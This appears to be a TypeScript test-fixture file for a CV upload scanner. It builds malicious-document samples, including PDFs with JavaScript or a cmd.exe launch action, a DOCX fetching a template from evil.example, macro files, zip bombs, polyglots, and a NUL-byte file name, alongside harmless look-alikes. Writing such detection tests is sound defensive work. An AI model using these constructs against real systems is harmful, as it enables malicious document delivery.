import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

interface Entry {
  name: string;
  data: Buffer;
  /** What the archive claims, where that is a lie. */
  claimedSize?: number;
}

/** A zip archive, as small as it can be written. */
function zip(entries: Entry[]): Buffer {
  const files: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, data, claimedSize = data.length } of entries) {
    const packed = deflateRawSync(data, { level: 9 });
    const facts = Buffer.alloc(22);
    facts.writeUInt16LE(20, 0);
    facts.writeUInt16LE(8, 4);
    facts.writeUInt32LE(crc32(data), 10);
    facts.writeUInt32LE(packed.length, 14);
    facts.writeUInt32LE(claimedSize, 18);
    const lengths = Buffer.alloc(4);
    lengths.writeUInt16LE(Buffer.byteLength(name), 0);
    const head = Buffer.concat([Buffer.from('PK\x03\x04'), facts, lengths, Buffer.from(name)]);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(offset, 10);
    directory.push(
      Buffer.concat([
        Buffer.from('PK\x01\x02\x14\0'),
        facts,
        lengths,
        rest.subarray(0, 14),
        Buffer.from(name),
      ]),
    );
    files.push(head, packed);
    offset += head.length + packed.length;
  }
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(entries.length % 65_536, 8);
  end.writeUInt16LE(entries.length % 65_536, 10);
  end.writeUInt32LE(list.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...files, list, end]);
}

const xml = (text: string) => Buffer.from(`<?xml version="1.0"?>${text}`);
const docxParts = [
  { name: '[Content_Types].xml', data: xml('<Types/>') },
  { name: 'word/document.xml', data: xml('<w:document>Bonjour</w:document>') },
];

export const documents = {
  pdf: Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  docx: zip(docxParts),
  doc: Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(2000),
    Buffer.from('WordDocument', 'utf16le'),
    Buffer.alloc(500),
  ]),
};

const pdfWith = (object: string | Buffer) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n2 0 obj'),
    Buffer.from(object),
    Buffer.from('endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ]);
const packed = (text: string) =>
  Buffer.concat([
    Buffer.from('<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\r\n'),
    deflateSync(text),
    Buffer.from('\nendstream '),
  ]);
const relation = (kind: string, target: string) => ({
  name: 'word/_rels/settings.xml.rels',
  data: xml(
    `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" ${target}/></Relationships>`,
  ),
});

/** Documents that do something when they are opened. */
export const programs = {
  'a pdf with a script': ['cv.pdf', pdfWith('<</S/JavaScript/JS(app.alert\\(1\\))>>')],
  'a pdf whose script is written by numbers': ['cv.pdf', pdfWith('<</S/J#61va#53cript/JS(x)>>')],
  'a pdf that starts a program': ['cv.pdf', pdfWith('<</S /Launch /F (cmd.exe)>>')],
  'a pdf whose script is packed': ['cv.pdf', pdfWith(packed('2 0 <</S/JavaScript/JS(x)>>'))],
  'a docx that fetches its template': [
    'cv.docx',
    zip([
      ...docxParts,
      relation('attachedTemplate', 'Target="https://evil.example/t.dotm" TargetMode="External"'),
    ]),
  ],
  'a docx with an object of another program': [
    'cv.docx',
    zip([...docxParts, { name: 'word/embeddings/oleObject1.bin', data: Buffer.from('x') }]),
  ],
} as const satisfies Record<string, readonly [string, Buffer]>;

/** What looks like one of them and is harmless. */
export const harmless = {
  'a pdf with a link and an attached file': [
    'cv.pdf',
    pdfWith('<</S/URI/URI(https://example.com/JavaScript)/Names[/EmbeddedFiles]>>'),
  ],
  'a pdf with packed objects': ['cv.pdf', pdfWith(packed('2 0 <</Type/Page>>'))],
  'a docx with a link': [
    'cv.docx',
    zip([...docxParts, relation('hyperlink', 'Target="https://a.example" TargetMode="External"')]),
  ],
  'a docx with a template of the machine': [
    'cv.docx',
    zip([...docxParts, relation('attachedTemplate', 'Target="Normal.dotm"')]),
  ],
} as const satisfies Record<string, readonly [string, Buffer]>;

export const locked = Buffer.concat([
  Buffer.from('d0cf11e0a1b11ae1', 'hex'),
  Buffer.alloc(2000),
  Buffer.from('EncryptedPackage', 'utf16le'),
]);

export const disguises = {
  'an exe named pdf': ['cv.pdf', Buffer.from('MZ\x90\0This program cannot be run in DOS mode')],
  'a pdf named exe': ['cv.exe', documents.pdf],
  'a pdf named docx': ['cv.docx', documents.pdf],
  'a docx named pdf': ['cv.pdf', documents.docx],
  'any archive named docx': ['cv.docx', zip([{ name: 'a.txt', data: Buffer.from('a') }])],
  'any OLE file named doc': ['cv.doc', Buffer.concat([documents.doc.subarray(0, 1000)])],
  'a pdf that is an archive too': ['cv.pdf', Buffer.concat([documents.pdf, documents.docx])],
  'an archive after the end of a pdf': [
    'cv.pdf',
    Buffer.concat([documents.pdf, documents.docx, documents.pdf]),
  ],
  'a docx that is a pdf too': ['cv.docx', zip([{ name: '%PDF-1.7', data: Buffer.from('x') }, ...docxParts])],
  'a docx with macros': [
    'cv.docx',
    zip([...docxParts, { name: 'word/vbaProject.bin', data: Buffer.from('x') }]),
  ],
  'a doc with macros': ['cv.doc', Buffer.concat([documents.doc, Buffer.from('_VBA_PROJECT', 'utf16le')])],
  'a docx bomb': [
    'cv.docx',
    zip([...docxParts, { name: 'word/b.xml', data: Buffer.alloc(20 * 1024 * 1024) }]),
  ],
  'a docx that claims to be huge': [
    'cv.docx',
    zip([...docxParts, { name: 'word/b.xml', data: Buffer.alloc(1000), claimedSize: 0xfffffff0 }]),
  ],
  'a docx of ten thousand parts': [
    'cv.docx',
    zip([
      ...docxParts,
      ...Array.from({ length: 10_000 }, (_, n) => ({ name: `word/${n}`, data: Buffer.from('x') })),
    ]),
  ],
  'a docx whose count of parts begins again': [
    'cv.docx',
    zip([
      ...docxParts,
      ...Array.from({ length: 65_536 }, (_, n) => ({ name: `w/${n}`, data: Buffer.alloc(0) })),
    ]),
  ],
  'a docx cut short': ['cv.docx', documents.docx.subarray(0, documents.docx.length - 30)],
  'a pdf cut short': ['cv.pdf', documents.pdf.subarray(0, 20)],
  'an empty file': ['cv.pdf', Buffer.alloc(0)],
  'a name with a NUL': ['cv.exe\0.pdf', Buffer.from('MZ')],
} as const satisfies Record<string, readonly [string, Buffer]>;
